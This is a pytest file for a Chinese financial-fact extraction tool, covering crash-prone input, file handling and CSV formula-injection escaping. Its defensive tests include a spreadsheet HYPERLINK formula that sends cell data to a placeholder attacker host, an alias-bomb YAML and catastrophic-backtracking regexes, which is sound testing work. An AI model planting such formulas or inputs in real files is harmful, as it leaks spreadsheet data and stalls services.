"""Input that used to crash an article or give a silent wrong number (issue: the
bad-input catalogue). Each case: no exception, and either the right value or no fact."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import SEEDS
from typer.testing import CliRunner

import zhipu_facts as zf
from zhipu_facts.cli import app

runner = CliRunner()
SEED = next(SEEDS.glob("000_*.txt"))


def _values(text, kind="money", **kw):
    return [(f.text, None if f.value is None else float(f.value)) for f in zf.extract_text(text, **kw) if f.kind == kind]


@pytest.mark.parametrize("text", ["据悉,该模型的API价格为0.5元三四百万tokens。", "稿费为200元一两千字", "价格为2元/٣千Tokens"])
def test_an_unreadable_denominator_is_no_price_not_a_crash(text):
    for f in zf.extract_text(text):
        assert f.per is None or "三四" not in f.per


@pytest.mark.parametrize("published,word", [("9999-12-31", "下周"), ("0001-01-01", "上周")])
def test_a_relative_week_at_the_calendar_edge_is_no_date_not_a_crash(published, word):
    facts = zf.extract_text(f"公司将于{word}公布财报,预计营收3亿元。", published=published)
    assert [f.text for f in facts if f.kind == "money"] == ["3亿元"]


@pytest.mark.parametrize("text,expected", [
    ("营收3\u200b0亿元", [("3\u200b0亿元", 3e9)]),
    ("营收3\u20600亿元", [("3\u20600亿元", 3e9)]),
    ("净利3\u00a00亿元", []),  # a visible space inside a number: no fact rather than 0亿元
    ("营收3 0亿元", []),
])
def test_a_character_inside_a_number_never_makes_it_zero(text, expected):
    assert _values(text) == expected


def test_the_quote_finder_counts_everything_the_invisible_rule_deletes(rules):
    # core/textview.invisible_in counts what views delete; the clean rule
    # clean.markup.invisible deletes some of the same characters itself: if
    # they drift, quotes around a deleted character are no longer found.
    from zhipu_facts.core.textview import invisible_in
    rule = next(r for r in rules.clean_rules if r.id == "clean.markup.invisible")
    deleted = {chr(c) for c in range(0x10000) if not 0xD800 <= c < 0xE000 and rule.compiled.fullmatch(chr(c))}
    assert {ch for ch in deleted if invisible_in(ch) == 1} == deleted


#: Characters a copy from a web page or a PDF leaves inside numbers.
INSIDE = {"LRM": "\u200e", "RLM": "\u200f", "RLO": "\u202e", "LRI": "\u2066", "PDI": "\u2069", "ZWSP": "\u200b",
          "soft hyphen": "\u00ad", "ALM": "\u061c", "narrow NBSP": "\u202f", "line separator": "\u2028",
          "paragraph separator": "\u2029", "combining acute": "\u0301", "tab": "\t", "NBSP": "\u00a0",
          "ideographic space": "\u3000", "hair space": "\u200a", "space": " ", "BOM": "\ufeff"}
INSIDE_OF = ["公司营收3{c}0亿元。", "毛利率增长1{c}5%。", "净利润为-{c}3亿元。", "营收为1,{c}234万元。", "营收为1{c},234万元。",
             "营收12.{c}5亿元。", "营收1{c}2.5亿元。", "营收¥1{c}00万。", "营收增长1{c}2个百分点。", "客户达1{c}200家。"]


def _signed(text):
    return sorted((f.kind, f.value, f.low, f.high, f.unit) for f in zf.extract_text(text, published="2025-01-01")
                  if f.kind != "date")


@pytest.mark.parametrize("template", INSIDE_OF)
def test_a_character_inside_a_number_reads_as_absent_or_no_fact_never_another_number(template):
    plain = _signed(template.format(c=""))
    for name, ch in INSIDE.items():
        text = template.format(c=ch)
        got = _signed(text)
        assert got in (plain, []), f"{name} in {text!r}: {got} where {plain} or nothing"
        for f in zf.extract_text(text):
            assert text[f.start:f.end] == f.text


def test_an_invisible_character_is_read_as_absent_and_kept_in_the_facts_text():
    text = "净利润为-\u200e3亿元,营收3\u200f0亿元。"
    negative, revenue = [f for f in zf.extract_text(text) if f.kind == "money"]
    assert negative.value == -300000000 and text[negative.start:negative.end] == negative.text
    # no unbroken part of 30亿元 is the number: the text is the source's, the mark inside it
    assert revenue.value == 3000000000 and revenue.text == "3\u200f0亿元"


def test_a_keycap_emoji_is_its_digit():
    assert _values("营收增长3\ufe0f\u20e30%", "percent") == [("3\ufe0f\u20e30%", 30)]


def test_a_number_longer_than_the_trigger_reach_is_read_whole():
    [(text, value)] = _values("总资产为12,345,678,901,234,567.89元")
    assert text == "12,345,678,901,234,567.89元" and value == pytest.approx(12345678901234567.89)


def test_a_number_after_its_currency_longer_than_the_reach_keeps_its_last_digits():
    """The window after a trigger hit (美元) ended 24 characters on, inside
    the number: 12,345,678,901,234,567.89 read as ...567.8, a smaller amount."""
    [(text, value)] = _values("估值达美元12,345,678,901,234,567.89,较上轮翻倍。")
    assert text == "美元12,345,678,901,234,567.89" and value == pytest.approx(12345678901234567.89)


@pytest.mark.parametrize("numeral", ["九千九百九十九万" * 1250, "三千五百万" * 10])
def test_a_long_chinese_numeral_is_never_read_from_its_tail(numeral):
    """The trigger window once started inside a long numeral, and its last
    characters read as a smaller, wrong amount; a malformed one is no amount."""
    assert _values(f"公司营收{numeral}元。") == []


def test_a_chinese_numeral_of_10000_characters_is_flagged_too_large():
    for numeral in ("一" + "亿" * 9999, "九" * 10000, "一" + "亿" * 300_000):
        [fact] = [f for f in zf.extract_text(f"公司估值{numeral}元。") if f.kind == "money"]
        assert fact.value is None and fact.low is None and "number_too_large" in fact.flags


def test_a_numeral_longer_than_the_reach_is_read_whole():
    # 27 characters, more than the trigger's reach of 24 before 元
    text = "一千二百三十四万五千六百七十八亿九千八百七十六万五千四百三十二"
    [(got, value)] = _values(f"合计{text}元")
    assert got == text + "元" and value == 1_234_567_898_765_432.0


def test_a_period_that_ends_before_it_starts_is_no_date():
    dates = [f for f in zf.extract_text("公司在2022至2000年间完成转型") if f.kind == "date"]
    assert all(f.date_start is None or f.date_start <= f.date_end for f in dates)
    assert "2022至2000年" not in [f.text for f in dates]


def test_every_date_ends_after_it_starts(seed_texts):
    for text in seed_texts.values():
        for f in zf.extract_text(text, published=dt.date(2025, 6, 30)):
            assert f.date_start is None or f.date_start <= f.date_end, f.text


# --- output that destroys or leaks, and CLI conventions ---------------------------


def test_an_output_that_is_an_input_is_refused(tmp_path):
    article = tmp_path / "a.csv"
    article.write_bytes(SEED.read_bytes())
    before = article.read_bytes()
    result = runner.invoke(app, ["extract", str(article), "-o", str(article)])
    assert result.exit_code == 2 and "is one of the articles" in result.output
    assert article.read_bytes() == before


def test_outputs_follow_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        out = tmp_path / "f.csv"
        assert runner.invoke(app, ["extract", str(SEED), "-o", str(out)]).exit_code == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o644


def test_a_symlink_is_followed_and_kept(tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("old", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    assert runner.invoke(app, ["extract", str(SEED), "-o", str(link)]).exit_code == 0
    assert link.is_symlink() and real.read_text(encoding="utf-8").startswith("source,")


def test_a_fifo_is_written_through_not_replaced(tmp_path):
    fifo = tmp_path / "f.csv"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
    assert runner.invoke(app, ["extract", str(SEED), "-o", str(fifo)]).exit_code == 0
    data = reader.communicate(timeout=30)[0].decode("utf-8")
    assert data.startswith("source,") and stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert not list(tmp_path.glob(".f.csv.*"))


def test_a_format_that_contradicts_the_extension_is_refused(tmp_path):
    result = runner.invoke(app, ["extract", str(SEED), "-o", str(tmp_path / "y.parquet"), "--format", "csv"])
    assert result.exit_code == 2 and "contradicts" in result.output
    assert not (tmp_path / "y.parquet").exists()


def test_version_and_short_help():
    assert runner.invoke(app, ["--version"]).output.startswith("zfacts ")
    assert "Usage" in runner.invoke(app, ["extract", "-h"]).output


def test_a_closed_pipe_is_not_an_error():
    cmd = f"{sys.executable} -m zhipu_facts extract {SEEDS} | head -1"
    done = subprocess.run(["bash", "-o", "pipefail", "-c", cmd], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("source,") and "error" not in done.stderr and "Traceback" not in done.stderr


def _rule_file(tmp_path, body):
    folder = tmp_path / "rules"
    (folder / "clean").mkdir(parents=True)
    (folder / "clean" / "bad.yaml").write_text(body, encoding="utf-8")
    return folder


@pytest.mark.parametrize("body,message", [
    ("rules:\n  - id: clean.bad.x\n    kind: clean\n    action: delete\n    pattern: 'x'\n"
     "    examples: [{text: 2025-13-45}]\n", "a value cannot be read"),
    ("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "aliases"),
])
def test_rule_files_that_would_crash_or_explode_are_named(tmp_path, body, message):
    result = runner.invoke(app, ["rules", "check", str(_rule_file(tmp_path, body))])
    assert result.exit_code == 2 and message in result.output and "bad.yaml" in result.output
    assert "Traceback" not in result.output


def test_a_line_of_brackets_is_read_without_a_timeout(tmp_path):
    """The shipped link rule was quadratic on 40,000 [ and timed out; it is linear now."""
    (tmp_path / "a.txt").write_text("[" * 40000 + "营收3亿元", encoding="utf-8")
    (tmp_path / "b.txt").write_bytes(SEED.read_bytes())
    out = tmp_path / "f.csv"
    result = runner.invoke(app, ["extract", str(tmp_path), "-o", str(out)])
    assert result.exit_code == 0 and "timed out" not in result.output
    text = out.read_text(encoding="utf-8")
    assert "3亿元" in text and "b.txt" in text


def test_a_backtracking_clean_rule_costs_one_rule_in_one_article_and_exit_1(tmp_path):
    """A rule that times out is a bug: the warning names rule, file and line,
    the total counts it, the exit status is 1, and every other fact stays."""
    rules = tmp_path / "rules" / "clean"
    rules.mkdir(parents=True)
    (rules / "mine.yaml").write_text(
        "rules:\n  - id: clean.mine.evil\n    kind: clean\n    action: delete\n"
        "    pattern: '(?:x|xx)+y'\n    examples: [{text: xy, clean: ''}]\n", encoding="utf-8")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text("公司营收3亿元。\n" + "x" * 60 + "\n净利润1亿元。\n", encoding="utf-8")
    (corpus / "b.txt").write_bytes(SEED.read_bytes())
    out = tmp_path / "f.csv"
    result = runner.invoke(app, ["extract", str(corpus), "--rules", str(tmp_path / "rules"), "-o", str(out)])
    assert result.exit_code == 1, result.output
    assert "warning: a.txt: rule clean.mine.evil" in result.output and "timed out in the text from line 1 (character 0) on" in result.output
    assert "1 rule timeout (" in result.output
    text = out.read_text(encoding="utf-8")
    assert "3亿元" in text and "1亿元" in text and "b.txt" in text


def test_a_fifo_named_as_input_is_read_as_a_stream(tmp_path):
    fifo = tmp_path / "in.txt"
    os.mkfifo(fifo)
    out = tmp_path / "facts.jsonl"
    writer = subprocess.Popen(["sh", "-c", f"printf '%s' '智谱完成30亿元融资。' > '{fifo}'"])
    result = runner.invoke(app, ["extract", str(fifo), "--published", "2025-02-11", "-o", str(out)])
    writer.wait(timeout=30)
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [(r["source"], r["text"]) for r in rows] == [("in.txt", "30亿元")]


def test_dev_stdin_named_as_input_is_read_as_a_stream_and_as_a_collection(tmp_path):
    cmd = [sys.executable, "-m", "zhipu_facts", "extract", "/dev/stdin", "--published", "2025-02-11",
           "--format", "jsonl"]
    one = subprocess.run(cmd, input="智谱完成30亿元融资。".encode(), capture_output=True, check=False)
    assert one.returncode == 0, one.stderr.decode()
    assert [json.loads(line)["text"] for line in one.stdout.decode().splitlines()] == ["30亿元"]
    records = "".join(json.dumps({"id": f"r{i}", "text": t}) + "\n" for i, t in enumerate(["营收3亿元。", "增长5%。"]))
    many = subprocess.run([*cmd, "--input-format", "jsonl"], input=records.encode(), capture_output=True, check=False)
    assert many.returncode == 0, many.stderr.decode()
    assert [json.loads(line)["source"] for line in many.stdout.decode().splitlines()] == ["r0", "r1"]


def test_a_file_name_that_is_not_utf8_is_read_as_gb18030(tmp_path):
    name = os.fsdecode("营收".encode("gbk") + b".txt")
    (tmp_path / name).write_text("公司营收3亿元。", encoding="utf-8")
    out = tmp_path / "f.csv"
    assert runner.invoke(app, ["extract", str(tmp_path), "-o", str(out)]).exit_code == 0
    assert "营收.txt" in out.read_text(encoding="utf-8")


def test_folders_nested_deeper_than_the_recursion_limit(tmp_path):
    depth = 1100
    # os.makedirs and shutil.rmtree recurse: make and remove each folder from its parent
    fds = [os.open(tmp_path, os.O_RDONLY)]
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fds[-1])
            fds.append(os.open("d", os.O_RDONLY, dir_fd=fds[-1]))
        fd = os.open("a.txt", os.O_WRONLY | os.O_CREAT, dir_fd=fds[-1])
        os.write(fd, "营收3亿元".encode())
        os.close(fd)
        [article] = zf.extract([tmp_path])
        assert [f.text for f in article.facts] == ["3亿元"]
    finally:
        remove_deep(fds)


def remove_deep(fds: list[int]) -> None:
    """Remove a chain of folders d/d/d/... bottom up, given an open fd of each."""
    for name in os.listdir(fds[-1]):
        os.unlink(name, dir_fd=fds[-1])
    while len(fds) > 1:
        os.close(fds.pop())
        os.rmdir("d", dir_fd=fds[-1])
    os.close(fds.pop())


def test_a_lone_surrogate_in_explain():
    result = runner.invoke(app, ["explain", "\ud800营收3亿元"])
    assert result.exit_code == 0 and "3亿元" in result.output


def test_json_is_one_array_and_reads_back(tmp_path):
    import json

    out = tmp_path / "f.json"
    assert runner.invoke(app, ["extract", str(SEED), "-o", str(out)]).exit_code == 0
    rows = json.loads(out.read_text(encoding="utf-8"))
    assert isinstance(rows, list) and rows and set(rows[0]) >= {"source", "value", "quote"}
    assert runner.invoke(app, ["diff", str(out), str(out)]).exit_code == 0


def test_a_very_long_sentence_is_quoted_around_the_fact():
    text = "营收3亿元，" + "公司业务稳定增长，" * 2000 + "净利润2亿元。"
    for f in zf.extract_text(text):
        assert len(f.quote) <= 600 and f.text in f.quote and f.quote in text


def test_sigterm_leaves_no_temporary_file(tmp_path):
    import signal
    import time

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for i in range(300):
        (corpus / f"{i:03d}.txt").write_bytes(SEED.read_bytes())
    out = tmp_path / "f.csv"
    out.write_text("previous", encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "zhipu_facts", "extract", str(corpus), "-o", str(out)],
                            stderr=subprocess.DEVNULL)
    deadline = time.time() + 60
    while not list(tmp_path.glob(".f.csv.*")) and time.time() < deadline:
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=60) == 128 + signal.SIGTERM
    assert not list(tmp_path.glob(".f.csv.*"))
    assert out.read_text(encoding="utf-8") == "previous"


@pytest.mark.parametrize("folder,name,body,message", [
    ("lexicon", "mine.yaml", "lexicon: mine\nfragments: [a, b]\nentries:\n  - key: x\n    words: [y]\n",
     "must be a mapping NAME: field"),
    ("clean", "x.yaml", "rules:\n  - id: clean.x.b\n    kind: clean\n    action: byline\n    max_line: abc\n"
     "    pattern: '(?P<year>\\d{4})年(?P<month>\\d+)月(?P<day>\\d+)日'\n    examples: [{text: 2025年1月2日}]\n",
     "max_line must be a whole number"),
    ("money", "x.yaml", "rules:\n  - id: money.x.a\n    kind: money\n    pattern: '(?P<amount>{AMOUNT})(?P<cur>元)'\n"
     "    examples: [{text: 3元, span: 3元}]\n    negatives: [{allow: [x]}]\n", "needs `text`"),
    ("money", "x.yaml", "rules:\n  - id: money.x.a\n    kind: money\n    pattern: '(?P<amount>{AMOUNT})(?P<cur>元)'\n"
     "    options: {implied_currency: cue, default_currency: 123}\n    examples: [{text: 3元, span: 3元}]\n"
     "    negatives: [元宇宙]\n", "default_currency"),
])
def test_malformed_rule_files_are_named_not_tracebacks(tmp_path, folder, name, body, message):
    (tmp_path / "r" / folder).mkdir(parents=True)
    (tmp_path / "r" / folder / name).write_text(body, encoding="utf-8")
    result = runner.invoke(app, ["rules", "check", str(tmp_path / "r")])
    assert result.exit_code == 2 and message in result.output and name in result.output
    assert "Traceback" not in result.output


def test_rules_check_times_a_pattern_behind_a_literal(tmp_path):
    (tmp_path / "r" / "clean").mkdir(parents=True)
    (tmp_path / "r" / "clean" / "slow.yaml").write_text(
        "rules:\n  - id: clean.slow.x\n    kind: clean\n    action: delete\n    pattern: 'x(?:a|aa)+$'\n"
        "    examples: [{text: xaaaaab}]\n", encoding="utf-8")
    result = runner.invoke(app, ["rules", "check", str(tmp_path / "r")])
    assert result.exit_code == 1 and "[clean.slow.x]" in result.output and "backtracks" in result.output


@pytest.mark.parametrize("digits", [40, 10000])
def test_a_number_beyond_any_figure_is_flagged_never_infinite(tmp_path, digits):
    import json

    article = tmp_path / "big.txt"
    article.write_text("总资产为" + "9" * digits + "元。", encoding="utf-8")
    out = tmp_path / "f.jsonl"
    assert runner.invoke(app, ["extract", str(article), "-o", str(out)]).exit_code == 0
    [row] = [json.loads(line, parse_constant=lambda c: pytest.fail(f"not JSON: {c}"))
             for line in out.read_text(encoding="utf-8").splitlines()]
    assert row["value"] is None and row["low"] is None and row["flags"] == ["number_too_large"]
    assert len(row["text"]) == digits + 1


def test_a_table_missing_a_required_value_is_bad_input_for_diff(tmp_path):
    import csv

    good = tmp_path / "good.csv"
    assert runner.invoke(app, ["extract", str(SEED), "-o", str(good)]).exit_code == 0
    rows = list(csv.reader(good.open(encoding="utf-8")))
    rows[1][rows[0].index("start")] = ""
    bad = tmp_path / "bad.csv"
    with bad.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    result = runner.invoke(app, ["diff", str(good), str(bad)])
    assert result.exit_code == 2 and "column 'start' is empty in row 1" in result.output


# --- CSV formula injection ----------------------------------------------------------

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")，该公司第三季度营收同比下降12%，'
           '净利润为-8,000万元，毛利率变动-5%。\n@SUM(1+1) 公司估值约300亿元。\n')


def test_csv_text_cells_never_start_a_formula_and_read_back_exact(tmp_path):
    """A spreadsheet runs a cell that begins with = + - @ tab or CR; every such text
    cell gets a leading ', numbers stay numbers, and zfacts reads the text back exact."""
    from zhipu_facts.table.read import read_facts

    article = tmp_path / "=cmd_2024-10-04.txt"  # the file name is a text cell too
    article.write_text(HOSTILE, encoding="utf-8")
    csv_out, jsonl_out = tmp_path / "f.csv", tmp_path / "f.jsonl"
    for out in (csv_out, jsonl_out):
        assert runner.invoke(app, ["extract", str(article), "-o", str(out)]).exit_code == 0
    import csv

    with open(csv_out, encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    numeric = {"value", "low", "high", "value_cny", "fx_rate", "start", "end", "line"}
    plain_number = re.compile(r"[-+]?\d+(?:\.\d+)?%?")
    for row in rows:
        for col, cell in row.items():
            if col not in numeric and not plain_number.fullmatch(cell):
                assert cell[:1] not in set("=+-@\t\r"), (col, cell)
    assert any(r["text"] == "-5%" for r in rows)  # a plain number runs no formula: left as it is
    loss = next(r for r in rows if "8,000万元" in r["text"])
    assert loss["text"] == "'-8,000万元" and float(loss["value"]) == -8e7
    assert all(r["source"].startswith("'=") for r in rows)
    assert any(r["quote"].startswith("'=HYPERLINK") for r in rows)
    exact = read_facts(csv_out)
    assert exact["text"].tolist() == read_facts(jsonl_out)["text"].tolist()
    assert "-8,000万元" in set(exact["text"]) and set(exact["source"]) == {article.name}
    assert runner.invoke(app, ["diff", str(csv_out), str(jsonl_out)]).exit_code == 0


def test_a_text_that_starts_with_a_quote_mark_reads_back_unchanged(tmp_path):
    from zhipu_facts.table.read import read_facts

    article = tmp_path / "'引号开头.txt"
    article.write_text("公司营收30亿元。\n", encoding="utf-8")
    out = tmp_path / "f.csv"
    assert runner.invoke(app, ["extract", str(article), "-o", str(out)]).exit_code == 0
    assert "''引号开头.txt" in out.read_text(encoding="utf-8")
    assert set(read_facts(out)["source"]) == {"'引号开头.txt"}


def test_excel_csv_has_a_byte_order_mark_and_reads_back(tmp_path):
    from zhipu_facts.table.read import read_facts

    seed = next(SEEDS.glob("000_*.txt"))
    plain, excel, parquet = tmp_path / "a.csv", tmp_path / "b.csv", tmp_path / "c.parquet"
    assert runner.invoke(app, ["extract", str(seed), "-o", str(plain)]).exit_code == 0
    result = runner.invoke(app, ["extract", str(seed), "--excel", "-o", str(excel), "-o", str(parquet)])
    assert result.exit_code == 0, result.output
    assert excel.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
    assert not parquet.read_bytes().startswith(b"\xef\xbb\xbf")  # --excel is about CSV only
    assert read_facts(excel).equals(read_facts(plain))
    assert runner.invoke(app, ["extract", str(seed), "--format", "excel", "-o", str(tmp_path / "d.csv")]).exit_code == 0
    assert (tmp_path / "d.csv").read_bytes() == excel.read_bytes()
    compared = tmp_path / "cmp.csv"
    assert runner.invoke(app, ["compare", str(parquet), "--excel", "-o", str(compared)]).exit_code == 0
    assert compared.read_bytes().startswith(b"\xef\xbb\xbfgroup,")


def test_a_folder_that_cannot_be_listed_is_skipped_by_name_and_exits_1(tmp_path, monkeypatch):
    """As root no folder is unreadable, so os.scandir is made to refuse one."""
    from zhipu_facts.ingest import read

    corpus = tmp_path / "corpus"
    (corpus / "locked").mkdir(parents=True)
    (corpus / "locked" / "a.txt").write_text("公司营收30亿元。", encoding="utf-8")
    (corpus / "b.txt").write_text("公司营收40亿元。", encoding="utf-8")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    real = os.scandir

    def scandir(path):
        if Path(path).name in ("locked", "elsewhere"):
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(read.os, "scandir", scandir)
    out = tmp_path / "f.csv"
    result = runner.invoke(app, ["extract", str(corpus), str(elsewhere), "-o", str(out)])
    assert result.exit_code == 1, result.output
    assert "skipped locked/: cannot list this folder" in result.output and "Permission denied" in result.output
    assert f"skipped {elsewhere.as_posix()}/" in result.output
    assert "3 articles: 1 read, 2 skipped" in result.output
    assert "40亿元" in out.read_text(encoding="utf-8")


@pytest.mark.parametrize("mark", ["\u200b", "\u200e", "\u2066", "\u00ad"])
def test_an_invisible_character_in_a_dateline_or_byline_keeps_the_publication_date(mark):
    for text, published in [(f"【财联社1月2{mark}2日电】公司营收3亿元。", dt.date(2025, 1, 22)),
                            (f"【财联社1{mark}月22日电】公司营收3亿元。", dt.date(2025, 1, 22)),
                            (f"发布时间:2024年10{mark}月4日 09:30\n公司营收3亿元。", dt.date(2024, 10, 4))]:
        [article] = zf.extract_records([{"id": "x", "text": text}], default_published="2025-03-01")
        assert article.published == published, text
        assert [f.text for f in article.facts] == ["3亿元"]  # the dateline is cut whole, mark and all


@pytest.mark.parametrize("text,expected", [
    ("公司营收¥7，967万。", [("¥7，967万", 79670000.0)]),
    ("公司营收US$7，967万。", [("US$7，967万", 79670000.0)]),
    ("公司营收￥7，967，000。", [("￥7，967，000", 7967000.0)]),
    ("收入$20，300美圆。", [("$20", 20.0), ("300美圆", 300.0)]),  # a sign and a currency word: two amounts
])
def test_a_full_width_thousands_comma_after_a_currency_sign_is_one_amount(text, expected):
    assert _values(text) == expected
